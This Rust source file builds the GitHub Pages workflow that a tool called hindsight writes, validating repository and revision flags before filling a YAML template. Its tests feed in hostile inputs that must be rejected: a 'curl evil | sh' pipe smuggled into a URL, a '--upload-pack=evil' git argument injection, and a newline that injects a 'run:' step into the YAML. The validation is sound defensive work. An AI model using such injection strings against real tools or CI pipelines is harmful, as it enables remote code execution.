//! The GitHub Pages workflow that `hindsight init` writes. It runs
//! hindsight through hindsight's own GitHub Action, pinned to a release,
//! so a fresh archive deploys without compiling anything and never
//! installs a package by a name the project does not own.

use crate::error::{Error, Result};
use crate::project;

/// Which hindsight the workflow runs: the Action's repository and the ref
/// it is pinned to, and the release whose binary the Action downloads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ActionSource {
    /// `OWNER/NAME` of hindsight's repository, as `uses:` names it.
    pub repo: String,
    /// The tag or commit of that repository the Action is pinned to.
    pub rev: String,
    /// The release version the Action runs.
    pub version: String,
}

impl ActionSource {
    /// The source from `init`'s flags. By default the repository in
    /// hindsight's Cargo.toml and the tag of this build's version, so the
    /// archive runs the hindsight that created it.
    pub fn new(repository: Option<&str>, rev: Option<&str>) -> Result<ActionSource> {
        let url = repository.unwrap_or(project::REPOSITORY);
        let repo = project::owner_and_name(url).ok_or_else(|| {
            Error::Usage(format!(
                "--repository `{url}` is not a repository URL; write it like https://github.com/OWNER/NAME"
            ))
        })?;
        let version = project::VERSION.to_string();
        let rev = match rev {
            Some(rev) => check_rev(rev)?,
            None => format!("v{version}"),
        };
        Ok(ActionSource { repo, rev, version })
    }
}

/// A tag or commit: no leading `-`, nothing that could leave the YAML
/// scalar or the `uses:` reference.
fn check_rev(rev: &str) -> Result<String> {
    let safe = |c: char| c.is_ascii_alphanumeric() || "-._/+".contains(c);
    if rev.is_empty() || rev.starts_with('-') || !rev.chars().all(safe) {
        return Err(Error::Usage(format!(
            "--rev `{rev}` is not a tag or commit of hindsight's repository; give a release tag like v{} or a commit SHA",
            project::VERSION
        )));
    }
    Ok(rev.to_string())
}

/// The Pages workflow, running the Action from `source`.
pub(super) fn pages(source: &ActionSource) -> String {
    include_str!("pages.yml")
        .replace("{{ACTION}}", &format!("{}@{}", source.repo, source.rev))
        .replace("{{VERSION}}", &source.version)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_pin_this_version() {
        let source = ActionSource::new(None, None).unwrap();
        assert_eq!(source.rev, format!("v{}", project::VERSION));
        assert_eq!(source.version, project::VERSION);
        let text = pages(&source);
        let uses = format!("uses: {}@v{}", source.repo, project::VERSION);
        assert_eq!(text.matches(&uses).count(), 2, "{text}");
        let placeholder = text
            .match_indices("{{")
            .any(|(i, _)| text[i + 2..].starts_with(|c: char| c.is_ascii_uppercase()));
        assert!(!placeholder, "{text}");
    }

    #[test]
    fn flags_are_checked() {
        let sha = "0123456789abcdef0123456789abcdef01234567";
        let ok = ActionSource::new(Some("https://github.com/acme/hs.git"), Some(sha)).unwrap();
        assert_eq!((ok.repo.as_str(), ok.rev.as_str()), ("acme/hs", sha));
        for (url, rev) in [
            ("hindsight", "v1.0.0"),
            ("https://github.com/x\"; curl evil | sh; \"", "v1.0.0"),
            ("https://github.com/acme/hs", "--upload-pack=evil"),
            ("https://github.com/acme/hs", "a b"),
            ("https://github.com/acme/hs", "v1\n  run: evil"),
        ] {
            assert!(
                ActionSource::new(Some(url), Some(rev)).is_err(),
                "{url} {rev}"
            );
        }
    }
}
